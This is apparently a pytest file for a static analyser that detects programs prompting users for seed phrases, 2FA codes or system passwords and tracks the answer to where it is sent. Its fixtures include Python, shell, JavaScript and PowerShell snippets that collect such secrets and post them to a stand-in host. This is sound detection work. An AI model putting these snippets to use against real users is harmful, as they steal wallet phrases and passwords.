"""What programs ask the user for, and that it is followed to where it is sent, through the doors of the languages."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.language.asked import typed
from pinfold.language.context import Context
from pinfold.language.javascript import program as javascript
from pinfold.language.powershell import script as powershell
from pinfold.language.python import program as python
from pinfold.language.shell import script as shell
from pinfold.model import Place

FAR = "https://drop.example/in"

QUESTIONS = {
    "Enter your seed phrase:": "typed:phrase",
    "Type your 24 words": "typed:phrase",
    "请输入助记词": "typed:phrase",
    "請輸入錢包私鑰": "typed:phrase",
    "Code from your authenticator (2FA code): ": "typed:code",
    "手机验证码": "typed:code",
    "macOS needs your system password": "typed:system",
    "[sudo] password for ops:": "typed:system",
    "请输入开机密码": "typed:system",
    "Card number": "typed:card",
    "Password: ": "typed:password",
    "Passphrase to encrypt the archive": "typed:password",
    "API key: ": "typed:key",
}


@pytest.mark.parametrize(("question", "source"), QUESTIONS.items())
def test_a_question_says_what_is_typed(question, source):
    assert typed(question).sources == (source,)


@pytest.mark.parametrize("question", ["", "City: ", "Continue? [y/N]", "Key of the song", "Code review by", "名称"])
def test_other_questions_ask_for_no_secret(question):
    assert not typed(question)


@given(st.text())
def test_any_question_is_read(question):
    assert len(typed(question).sources) <= 1


PYTHON = {
    "input": "s = input('Enter your seed phrase: ')",
    "printed before": "print('Type your 12 words')\ns = input('> ')",
    "through a function": "def ask(q):\n    return input(q)\ns = ask('Seed phrase: ')",
    "getpass": "from getpass import getpass\ns = getpass('Mnemonic: ')",
    "a dialog": "from tkinter import simpledialog\ns = simpledialog.askstring('Wallet', 'Recovery phrase', show='*')",
    "a library": "import click\ns = click.prompt('Recovery words', hide_input=True)",
    "a dialog of the system": (
        "import subprocess\ns = subprocess.check_output(['osascript', '-e', 'display dialog \"Your seed phrase\" "
        'default answer ""\'])'
    ),
}


def sent(found):
    return {word for act in found for word in str(act.fields.get("SentData", "")).split()}


def acts_of(language, source):
    return language.acts(source, Context(place=lambda start, end: Place("x", start, end)))


@pytest.mark.parametrize("source", PYTHON.values(), ids=PYTHON)
def test_what_python_asks_for_is_followed(source):
    found = acts_of(python, f"import requests\n{source}\nrequests.post('{FAR}', json={{'s': s}})\n")
    assert "typed:phrase" in sent(found)


SHELL = {
    "read": "read -p 'Seed phrase: ' s",
    "read unseen": "read -rsp 'Seed phrase: ' s",
    "by the name": "read -r SEED_PHRASE\ns=$SEED_PHRASE",
    "zenity": "s=$(zenity --entry --text='Your recovery phrase')",
    "whiptail": "s=$(whiptail --passwordbox 'Mnemonic' 8 40 3>&1 1>&2 2>&3)",
    "osascript": 's=$(osascript -e \'display dialog "Seed phrase" default answer "" with hidden answer\')',
}


@pytest.mark.parametrize("source", SHELL.values(), ids=SHELL)
def test_what_a_shell_asks_for_is_followed(source):
    assert "typed:phrase" in sent(acts_of(shell, f'{source}\ncurl -d "s=$s" {FAR}\n'))


READLINE = "const readline = require('readline');\nconst rl = readline.createInterface({input: process.stdin});\n"
JAVASCRIPT = {
    "prompt": "const s = prompt('Your seed phrase');",
    "a promise": READLINE.replace("'readline'", "'node:readline/promises'")
    + "const s = await rl.question('Mnemonic: ');",
    "a library": "import inquirer from 'inquirer';\n"
    "const s = (await inquirer.prompt([{name: 'x', message: 'Recovery phrase'}])).x;",
    "an editor": "const v = require('vscode');\nconst s = await v.window.showInputBox({prompt: 'Seed phrase'});",
}


@pytest.mark.parametrize("source", JAVASCRIPT.values(), ids=JAVASCRIPT)
def test_what_javascript_asks_for_is_followed(source):
    assert "typed:phrase" in sent(acts_of(javascript, f"{source}\nfetch('{FAR}', {{method: 'POST', body: s}});\n"))


def test_a_function_that_is_given_the_answer():
    source = f"{READLINE}rl.question('Mnemonic: ', (s) => {{ fetch('{FAR}', {{method: 'POST', body: s}}); }});\n"
    assert "typed:phrase" in sent(acts_of(javascript, source))


POWERSHELL = {
    "Read-Host": "$s = Read-Host 'Your Windows password'",
    "unseen": "$s = Read-Host -Prompt 'Your Windows password' -AsSecureString",
    "Get-Credential": "$s = Get-Credential -Message 'Windows password'",
}


@pytest.mark.parametrize("source", POWERSHELL.values(), ids=POWERSHELL)
def test_what_powershell_asks_for_is_followed(source):
    assert "typed:system" in sent(acts_of(powershell, f"{source}\nirm {FAR} -Method Post -Body $s\n"))


def test_what_is_used_to_log_in_is_no_cargo():
    login = "headers={'Authorization': f'Bearer {k}'}"
    source = f"import requests\nk = input('API key: ')\nrequests.get('{FAR}', {login})\n"
    assert sent(acts_of(python, source)) == {"auth:typed:key"}


def test_what_a_pipe_brings_is_not_typed():
    assert sent(acts_of(shell, f'cat notes | read password\ncurl -d "s=$password" {FAR}\n')) == {"notes"}
